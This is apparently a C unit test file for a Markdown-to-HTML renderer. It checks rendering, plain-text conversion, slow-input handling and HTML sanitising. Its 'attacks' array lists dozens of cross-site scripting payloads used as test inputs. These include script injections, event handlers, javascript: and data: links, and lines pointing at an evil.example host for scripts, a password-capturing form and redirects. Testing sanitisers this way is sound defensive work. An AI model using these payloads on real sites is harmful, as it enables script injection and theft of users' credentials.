#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "../support/html_check.h"
#include "lib/base/buf.h"
#include "lib/domain/markdown.h"

#define REL "\" rel=\"nofollow ugc noopener\">"

static int
setup(void **state)
{
	*state = arena_new((size_t)64 << 20);
	return 0;
}

static int
teardown(void **state)
{
	arena_free(*state);
	return 0;
}

static const struct {
	const char *text, *html;
} pages[] = {
	{ "", "" },
	{ "Hello", "<p>Hello</p>\n" },
	{ "one\ntwo", "<p>one\ntwo</p>\n" },
	{ "one  \ntwo", "<p>one<br>\ntwo</p>\n" },
	{ "*a* **b** ~~c~~ `d<`",
	    "<p><em>a</em> <strong>b</strong> <del>c</del> "
	    "<code>d&lt;</code></p>\n" },
	{ "~a~", "<p>~a~</p>\n" },
	{ "# A\n\n## B\n\n##### C\n\nD\n=",
	    "<h3>A</h3>\n<h4>B</h4>\n<h6>C</h6>\n<h3>D</h3>\n" },
	{ "- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n" },
	{ "3. a\n4. b", "<ol start=\"3\">\n<li>a</li>\n<li>b</li>\n</ol>\n" },
	{ "- a\n\n- b",
	    "<ul>\n<li><p>a</p>\n</li>\n<li><p>b</p>\n</li>\n</ul>\n" },
	{ "> q", "<blockquote>\n<p>q</p>\n</blockquote>\n" },
	{ "a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>\n" },
	{ "```c title\nif (a < b) {}\n```",
	    "<pre><code class=\"language-c\">if (a &lt; b) {}\n"
	    "</code></pre>\n" },
	{ "    int i;", "<pre><code>int i;\n</code></pre>\n" },
	{ "[a](https://example.org/?x=1&y=2)",
	    "<p><a href=\"https://example.org/?x=1&amp;y=2" REL "a</a></p>\n" },
	{ "[a](http://example.org/ä \"title\")",
	    "<p><a href=\"http://example.org/%C3%A4" REL "a</a></p>\n" },
	{ "[a](mailto:me@example.org)",
	    "<p><a href=\"mailto:me@example.org" REL "a</a></p>\n" },
	{ "see https://example.org/a.",
	    "<p>see <a href=\"https://example.org/a" REL
	    "https://example.org/a</a>.</p>\n" },
	{ "see www.example.org", "<p>see <a href=\"http://www.example.org" REL
				 "www.example.org</a></p>\n" },
	{ "me@example.org", "<p><a href=\"mailto:me@example.org" REL
			    "me@example.org</a></p>\n" },
	{ "![alt](https://example.org/a.png)",
	    "<p><a href=\"https://example.org/a.png" REL "alt</a></p>\n" },
	{ "![](https://example.org/a.png)",
	    "<p><a href=\"https://example.org/a.png" REL
	    "https://example.org/a.png</a></p>\n" },
	{ "[![alt](https://b.example/p)](https://a.example)",
	    "<p><a href=\"https://a.example" REL "alt</a></p>\n" },
	{ "[a](/logout) [b](ftp://x.example) [c](#top)", "<p>a b c</p>\n" },
	{ "List<String> a", "<p>List&lt;String&gt; a</p>\n" },
	{ "<div>\n<b>x</b>\n</div>",
	    "<p>&lt;div&gt;\n&lt;b&gt;x&lt;/b&gt;\n&lt;/div&gt;\n</p>\n" },
	{ "| a | b |\n|---|---|\n| 1 | 2 |",
	    "<p>| a | b |\n|---|---|\n| 1 | 2 |</p>\n" },
	{ "Ünï\xff", "<p>Ünï\xef\xbf\xbd</p>\n" },
};

static void
shows_what_people_write(void **state)
{
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++)
		assert_string_equal(
		    markdown(*state, pages[i].text).text, pages[i].html);
	assert_string_equal(markdown(*state, NULL).text, "");
}

/* Each is shown with no tag but Markdown's own, and no address but these. */
static const char *const attacks[] = {
	"<script>alert(1)</script>",
	"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
	"<img src=x onerror=alert(1)>",
	"<img src=\"x\" onerror=\"alert(1)\">",
	"<svg/onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
	"<iframe src=\"javascript:alert(1)\"></iframe>",
	"<body onload=alert(1)>",
	"<details open ontoggle=alert(1)>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href='https://x.example' onclick='alert(1)'>x</a>",
	"<form action=https://evil.example><input name=password>",
	"<style>@import 'https://evil.example/x.css';</style>",
	"<base href=https://evil.example/>",
	"<meta http-equiv=refresh content=0;url=https://evil.example>",
	"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version=\"1.0\"?><script>alert(1)</script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<script\n>alert(1)</script\n>",
	"\\<script>alert(1)</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"`<script>alert(1)</script>`",
	"```\n</code></pre><script>alert(1)</script>\n```",
	"```\"><script>alert(1)</script>\nx\n```",
	"```c\" onmouseover=\"alert(1)\nx\n```",
	"~~~'onclick='x\nx\n~~~",
	"[a](javascript:alert(1))",
	"[a](JaVaScRiPt:alert(1))",
	"[a](javascript&colon;alert(1))",
	"[a](&#106;avascript:alert(1))",
	"[a](java&#x09;script:alert(1))",
	"[a](java&NewLine;script:alert(1))",
	"[a](\x01javascript:alert(1))",
	"[a](<javascript:alert(1)>)",
	"[a](vbscript:msgbox(1))",
	"[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"[a](data:image/svg+xml,<svg/onload=alert(1)>)",
	"[a](file:///etc/passwd)",
	"[a](//evil.example)",
	"[a](/\\evil.example)",
	"[a](blob:https://x.example/1)",
	"[a](https://x.example/\"onmouseover=\"alert(1))",
	"[a](https://x.example/'onmouseover='alert(1))",
	"[a](<https://x.example/\" onmouseover=\"alert(1)>)",
	"[a](https://x.example/><script>alert(1)</script>)",
	"[a](https://x.example \"\\\"><script>alert(1)</script>\")",
	"[a](https://x.example 'x\" onclick=\"alert(1)')",
	"![a](javascript:alert(1))",
	"![\"onerror=\"alert(1)](https://x.example)",
	"![a](https://x.example \"x\" onerror=\"alert(1)\")",
	"[a]\n\n[a]: javascript:alert(1)",
	"[a]\n\n[a]: <javascript:alert(1)> \"x\"",
	"<javascript:alert(1)>",
	"<https://x.example/\"onclick=\"alert(1)>",
	"<https://x.example/<script>alert(1)</script>>",
	"https://x.example/\"onmouseover=alert(1)",
	"https://x.example/<script>alert(1)</script>",
	"www.x.example/\"><script>alert(1)</script>",
	"a\"onclick=\"alert(1)@x.example",
	"[<script>alert(1)</script>](https://x.example)",
	"[[a](https://x.example)](javascript:alert(1))",
	"# <script>alert(1)</script>",
	"- <img src=x onerror=alert(1)>",
	"> <img src=x onerror=alert(1)>",
	"| <script>alert(1)</script> |\n|---|",
	"*<b onclick=alert(1)>*",
	"~~<script>~~alert(1)</script>",
	"\xe2\x80\xa8<script>alert(1)</script>",
	"<\xef\xbc\x9cscript>alert(1)",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"\xc0\xbcscript\xc0\xbe",
	"1. [a](https://x.example/\n\"onclick=alert(1))",
};

static void
leaves_nothing_to_attack(void **state)
{
	const char *html;

	for (size_t i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
		html = markdown(*state, attacks[i]).text;
		if (html_fault(html) != NULL)
			fail_msg("%s became %s", attacks[i], html);
	}
}

static void
checker_finds_faults(void **state)
{
	(void)state;
	assert_null(html_fault("<p>a</p>"));
	assert_non_null(html_fault("<p>a"));
	assert_non_null(html_fault("<p><em>a</p></em>"));
	assert_non_null(html_fault("<script>"));
	assert_non_null(html_fault("a > b"));
	assert_non_null(html_fault("<a href=\"javascript:x" REL "a</a>"));
	assert_non_null(html_fault("<a href=\"https://x\">a</a>"));
	assert_non_null(html_fault("<p onclick=\"\">a</p>"));
}

/* Text that made the parser slow, or the page too deep for a browser. */
static const char *const heavy[] = { "> ", ">", "- ", "1) ", "[", "![[]()",
	"a@a.", "*a_ ", "**a ", "*_", "`", "<", "<!--", "[a](", "&", "\\",
	"- a\n", "www.a(" };

static void
heavy_text_costs_little(void **state)
{
	struct arena *a = *state;
	struct timespec from, to;
	struct buf b;

	for (size_t i = 0; i < sizeof(heavy) / sizeof(heavy[0]); i++) {
		arena_reset(a);
		buf_init(&b, a, MARKDOWN_MOST);
		while (b.len + strlen(heavy[i]) <= MARKDOWN_MOST)
			buf_puts(&b, heavy[i]);
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &from);
		assert_null(html_fault(markdown(a, b.data).text));
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &to);
		/* 0.06 s at most when optimised; a runaway takes minutes */
		assert_true(to.tv_sec - from.tv_sec < 5);
	}
}

static void
too_long_is_one_paragraph(void **state)
{
	struct buf b;

	buf_init(&b, *state, MARKDOWN_MOST + 8);
	while (b.len <= MARKDOWN_MOST)
		buf_puts(&b, "*a* <");
	assert_int_equal(
	    strncmp(markdown(*state, b.data).text, "<p>*a* &lt;", 11), 0);
}

static const struct {
	const char *text;
	size_t most;
	const char *plain;
} plains[] = {
	{ "", 0, "" },
	{ "*a* **b** `c` ~~d~~", 0, "a b c d" },
	{ "# Title\n\nFirst\nline.\n\nSecond.", 0,
	    "Title\n\nFirst line.\n\nSecond." },
	{ "- a\n- b\n\nafter", 0, "- a\n- b\n\nafter" },
	{ "2. a\n3. b\n4. c", 0, "2. a\n3. b\n4. c" },
	{ "1. - a\n2. b", 0, "- a\n2. b" },
	{ "[text](https://x.example) ![pic](https://x.example)", 0,
	    "text pic" },
	{ "a<b>c", 0, "a<b>c" },
	{ "```\ncode\nmore\n```\nend", 0, "code\nmore\n\nend" },
	{ "one two three", 13, "one two three" },
	{ "one two three", 12, "one two…" },
	{ "one two three", 8, "one two…" },
	{ "one two three", 7, "one…" },
	{ "ääääääääää", 10, "ääääääääää" },
	{ "ääääääääää", 5, "ääää…" },
	{ "one", 1, "…" },
	{ "a & b \\* c", 0, "a & b * c" },
};

static void
plain_text_reads_well(void **state)
{
	for (size_t i = 0; i < sizeof(plains) / sizeof(plains[0]); i++)
		assert_string_equal(
		    markdown_plain(*state, plains[i].text, plains[i].most),
		    plains[i].plain);
	assert_string_equal(markdown_plain(*state, NULL, 3), "");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(
		    shows_what_people_write, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    leaves_nothing_to_attack, setup, teardown),
		cmocka_unit_test(checker_finds_faults),
		cmocka_unit_test_setup_teardown(
		    heavy_text_costs_little, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    too_long_is_one_paragraph, setup, teardown),
		cmocka_unit_test_setup_teardown(
		    plain_text_reads_well, setup, teardown),
	};

	return cmocka_run_group_tests_name("markdown", tests, NULL, NULL);
}
